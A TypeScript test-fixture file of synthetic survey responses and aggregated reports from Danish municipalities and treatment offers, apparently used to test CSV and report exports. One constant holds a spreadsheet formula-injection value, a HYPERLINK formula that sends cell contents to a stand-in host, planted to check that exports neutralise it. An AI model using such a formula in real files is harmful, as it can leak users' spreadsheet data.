// Test data for the export tests: the built-in announcement, synthetic answers from the 29 municipalities of
// Region Hovedstaden and three offers, and the joint reports built from them with the schema's aggregateReport.
import {
  aggregateReport,
  findAnnouncement,
  findQuestionnaire,
  kommunerInRegion,
  type Answers,
  type JointReport,
  type QuestionnaireVersion,
  type SubmittedResponse,
} from "@afrapport/schema";
import type { AnswerExportResponse } from "./answers-csv-rows.js";
import type { ReportDocumentInput } from "./report-document-input.js";

export const announcement = findAnnouncement("gravide-rusmiddel")!;
export const kommuneQuestionnaire: QuestionnaireVersion = findQuestionnaire(announcement, "kommune-2019")!;
export const tilbudQuestionnaire: QuestionnaireVersion = findQuestionnaire(announcement, "tilbud-2019")!;
export const hovedstaden = kommunerInRegion("1084");

/** What a municipality's formula-looking comment says; the exports must neutralise it. */
export const formulaText = '=HYPERLINK("http://example.invalid/?x="&A1;"Klik")';

const offers = [
  { name: "Familieambulatoriet, Hvidovre Hospital", operator: "regional", legalBasis: ["other"], location: "Hvidovre" },
  { name: "Døgnbehandlingstilbud for gravide", operator: "private", legalBasis: ["sel-101", "sel-107"], location: "Roskilde" },
  { name: "døgnbehandlingstilbud for  gravide", operator: "private", legalBasis: ["sel-107"], location: "Roskilde" },
  { name: "Tårnbys rusmiddelcenter", operator: "municipal", legalBasis: ["sel-101", "sundl-141"], location: "Tårnby" },
];

/** Deterministic answers for the municipality at `index` (0–28). København's counts are large, so totals pass 1.000. */
export function municipalityAnswers(index: number, name: string): Answers {
  const big = name === "København";
  const count = (year: number) => (big ? 400 + year * 25 : (index * 7 + year * 3) % 9);
  const refers = index % 5 !== 4;
  const cooperation = index % 6 === 5 ? ["none"] : ["other-municipalities", ...(index % 2 === 0 ? ["region"] : []), ...(index % 3 === 0 ? ["supervision-advice"] : [])];
  const hasAgreements = !cooperation.includes("none") && index % 3 !== 1;
  return {
    respondentUnit: "Social- og Sundhedsforvaltningen",
    targetGroupCount: { "2017": count(0), "2018": count(1), "2019": count(2) },
    targetGroupCountMethod: `Optalt i ${name} Kommunes sagssystem ud fra underretninger om gravide.`,
    refersToOffers: refers,
    ...(refers ? { offersUsed: [offers[index % offers.length]!, ...(index % 4 === 0 ? [offers[(index + 1) % offers.length]!] : [])] } : {}),
    offersComment: index === 3 ? formulaText : `Ventetid på døgnpladser i ${name}; særligt behov for jordemoderfaglige kompetencer.`,
    cooperationForms: cooperation,
    ...(cooperation.includes("none") ? {} : { cooperationScope: ["within-region"], cooperationDescription: `${name} samarbejder med nabokommunerne og familieambulatoriet.` }),
    ...(cooperation.includes("none") ? {} : { hasCooperationAgreements: hasAgreements }),
    ...(hasAgreements
      ? { cooperationAgreements: [{ name: `samarbejdsaftale-${name.toLowerCase()}.pdf`, type: "application/pdf", content: `attachment-${index}` }] }
      : {}),
    futureOrganisation: `${name} vil etablere et fast tværsektorielt forløb.\n\nDet sker i samarbejde med regionen og de øvrige kommuner.`,
  };
}

const responseId = (code: string) => `r-${code}`;

/** The 29 municipalities' submitted responses (or the first `count`). */
export function municipalityResponses(count = hovedstaden.length, rename: Record<string, string> = {}): SubmittedResponse[] {
  return hovedstaden.slice(0, count).map((kommune, index) => ({
    id: responseId(kommune.code),
    respondent: { id: `k-${kommune.code}`, name: rename[kommune.name] ?? kommune.name, kommuneCode: kommune.code },
    questionnaireVersion: kommuneQuestionnaire.version,
    answers: municipalityAnswers(index, kommune.name),
    submittedAt: `2026-11-${String(1 + (index % 20)).padStart(2, "0")}T09:30:00.000Z`,
  }));
}

/** Three offers: one highly specialised, one too small, one that has not answered the screening questions. */
export function offerResponses(): SubmittedResponse[] {
  const offer = (id: string, answers: Answers): SubmittedResponse => ({
    id,
    respondent: { id: `o-${id}`, name: String(answers.offerName) },
    questionnaireVersion: tilbudQuestionnaire.version,
    answers,
    submittedAt: "2026-11-20T12:00:00.000Z",
  });
  return [
    offer("t-1", {
      offerName: "Døgnbehandlingstilbud for gravide",
      operator: "private",
      legalBasis: ["sel-101", "sel-107"],
      placeCount: 8,
      effortDescription: "Døgnbehandling under graviditeten og op til et år efter fødslen.",
      citizensPerYear: { "2017": 5, "2018": 7, "2019": 6 },
      staffCount: 12,
      staffExperienceYears: 6.5,
      competences: { familie: "internal", svangerskab: "external", rusmiddel: "internal", psykiatri: "external" },
    }),
    offer("t-2", {
      offerName: "Ambulant rusmiddelbehandling Øst",
      operator: "municipal",
      legalBasis: ["sel-101", "sundl-141"],
      citizensPerYear: { "2017": 0, "2018": 1, "2019": 2 },
      staffCount: 1,
      staffExperienceYears: 0,
      competences: { familie: "absent", svangerskab: "absent", rusmiddel: "internal", psykiatri: "absent" },
    }),
    offer("t-3", { offerName: "Familiehuset på Amager", operator: "municipal", legalBasis: ["sel-107"] }),
  ];
}

export function municipalityReport(responses: SubmittedResponse[] = municipalityResponses()): JointReport {
  return aggregateReport({ questionnaire: kommuneQuestionnaire, responses });
}

export function offerReport(responses: SubmittedResponse[] = offerResponses()): JointReport {
  return aggregateReport({ questionnaire: tilbudQuestionnaire, responses, screening: { competences: announcement.competences } });
}

export const summaryText = "Kommunerne i Region Hovedstaden oplever en stigning i målgruppen.\n\nSærligt Høje-Taastrup og Tårnby peger på mangel på døgnpladser.";

export function reportInput(overrides: Partial<ReportDocumentInput> = {}): ReportDocumentInput {
  return {
    campaign: {
      title: "Afrapportering 2026 – gravide med rusmiddelbrug",
      regionName: "Region Hovedstaden",
      announcementTitle: announcement.title,
      deadline: "2026-12-01",
      status: "closed",
    },
    report: municipalityReport(),
    offerReport: offerReport(),
    summaries: { maalgruppe: summaryText, screening: "Ét tilbud opfylder alle fire kriterier." },
    locale: "da",
    generatedAt: new Date("2026-11-23T10:15:00Z"),
    approval: [
      { step: "K29 (kommunaldirektører)", date: "2026-12-04", decision: "Godkendt" },
      { step: "KKR Hovedstaden", date: "2026-12-11", decision: "Godkendt med bemærkninger", note: "Afsnittet om døgnpladser uddybes." },
    ],
    ...overrides,
  };
}

/** Submitted responses as the answer exports take them. */
export function exportResponses(responses: SubmittedResponse[]): AnswerExportResponse[] {
  return responses.map((r) => ({
    id: r.id,
    respondentName: r.respondent.name,
    ...(r.respondent.kommuneCode ? { kommuneCode: r.respondent.kommuneCode } : {}),
    status: "submitted",
    submittedAt: r.submittedAt ?? null,
    answers: r.answers,
  }));
}
